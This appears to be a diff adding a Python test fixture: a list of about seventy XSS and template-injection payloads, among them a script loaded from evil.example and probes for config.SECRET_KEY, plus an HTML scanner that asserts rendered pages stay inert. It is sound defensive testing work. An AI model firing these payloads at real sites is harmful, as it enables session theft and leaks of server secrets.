@@ -1,0 +1,144 @@
+"""Hostile input every user-controlled field is pushed through (tests/functional/test_xss.py and later areas).
+
+Each payload is at most 80 characters so that it fits every short field (term, section) unchanged.
+A page that shows one must show it as text: no new tags, no event handlers, no javascript: links, and
+template syntax left alone (TEMPLATE_MARKERS must not appear as numbers). assert_page_is_safe() checks that.
+"""
+
+import re
+from html import unescape
+from html.parser import HTMLParser
+
+XSS_PAYLOADS: list[str] = [
+    # script tags
+    "<script>alert(1)</script>",
+    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
+    "<script>alert(document.cookie)</script>",
+    "<scr<script>ipt>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</textarea><script>alert(1)</script>",
+    "</option><script>alert(1)</script>",
+    "<script/x>alert(1)</script>",
+    "<<script>alert(1)//<</script>",
+    # event handlers
+    "<img src=x onerror=alert(1)>",
+    "<img src=x onerror=\"alert(1)\">",
+    "<body onload=alert(1)>",
+    "<div onmouseover=\"alert(1)\">hover</div>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<marquee onstart=alert(1)>",
+    "<img src=x:x onerror=alert(1)//",
+    "<iframe onload=alert(1)></iframe>",
+    # javascript: URLs
+    "<a href=\"javascript:alert(1)\">click</a>",
+    "<a href=\"JaVaScRiPt:alert(1)\">click</a>",
+    "<a href=\"java&#x09;script:alert(1)\">tab</a>",
+    "<a href=\" javascript:alert(1)\">space</a>",
+    "javascript:alert(1)",
+    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    "<form action=\"javascript:alert(1)\"><button>go</button></form>",
+    "<object data=\"javascript:alert(1)\"></object>",
+    "<embed src=\"javascript:alert(1)\">",
+    # SVG and MathML tricks
+    "<svg onload=alert(1)>",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    # markdown link and image tricks
+    "[click](javascript:alert(1))",
+    "[click](JAVASCRIPT:alert(1))",
+    "![x](javascript:alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "<javascript:alert(1)>",
+    "[x](&#106;avascript:alert(1))",
+    "[a](https://ok.example \"x\" onmouseover=alert(1))",
+    # attribute breaking
+    "\"><script>alert(1)</script>",
+    "'><img src=x onerror=alert(1)>",
+    "\" onmouseover=\"alert(1)",
+    "' onfocus='alert(1)' autofocus='",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "`><img src=x onerror=alert(1)>",
+    # entity-encoded and escaped variants
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
+    "<a href=\"&#106;&#97;&#118;&#97;script:alert(1)\">x</a>",
+    # odd markup the browser still runs
+    "<base href=\"javascript:alert(1)//\">",
+    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
+    "<style>@import 'javascript:alert(1)';</style>",
+    "<link rel=stylesheet href=javascript:alert(1)>",
+    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
+    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+    # template injection
+    "{{7*7}}",
+    "{{ 1337*7 }}",
+    "{% print 1337*7 %}",
+    "${1337*7}",
+    "#{1337*7}",
+    "{{config.SECRET_KEY}}",
+    "{{ ''.__class__.__mro__ }}",
+]
+
+# Numbers an evaluated template payload would produce; no page that shows the payloads may contain them.
+TEMPLATE_MARKERS = ("9359",)
+
+
+# --- checking a rendered page ---------------------------------------------------------------------------
+
+URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "poster", "background"}
+FORBIDDEN_TAGS = {"iframe", "object", "embed", "svg", "math", "base", "frame", "frameset", "applet", "style"}
+BAD_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.I)
+
+
+class _Scanner(HTMLParser):
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.problems: list[str] = []
+
+    def handle_starttag(self, tag, attrs):
+        attributes = dict(attrs)
+        if tag == "script" and not (attributes.get("src") or "").startswith("/static/"):
+            self.problems.append(f"<script> that is not ours: {attrs}")
+        if tag in FORBIDDEN_TAGS:
+            self.problems.append(f"<{tag}> tag")
+        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
+            self.problems.append("<meta http-equiv=refresh>")
+        if tag == "link" and not (attributes.get("href") or "").startswith("/static/"):
+            self.problems.append(f"<link> that is not ours: {attrs}")
+        for name, value in attrs:
+            if name.startswith("on"):
+                self.problems.append(f"event handler {name}= on <{tag}>")
+            # Browsers ignore whitespace and control characters inside a URL's scheme.
+            squeezed = re.sub(r"[\x00-\x20]", "", value or "")
+            if name in URL_ATTRIBUTES and BAD_SCHEME.match(squeezed):
+                self.problems.append(f"{name}={value!r} on <{tag}>")
+            if name == "style":
+                self.problems.append(f"inline style on <{tag}>")
+
+
+def executable_markup(html: str) -> list[str]:
+    """What in this page a browser could run that our templates never write."""
+    scanner = _Scanner()
+    scanner.feed(html)
+    scanner.close()
+    return scanner.problems
+
+
+def visible_text(html: str) -> str:
+    return unescape(re.sub(r"<[^>]+>", " ", html))
+
+
+def assert_page_is_safe(html: str, where: str = "") -> None:
+    problems = executable_markup(html)
+    assert not problems, f"{where}: {problems}"
+    text = visible_text(html)
+    for marker in TEMPLATE_MARKERS:
+        assert marker not in text, f"{where}: template syntax was evaluated ({marker})"
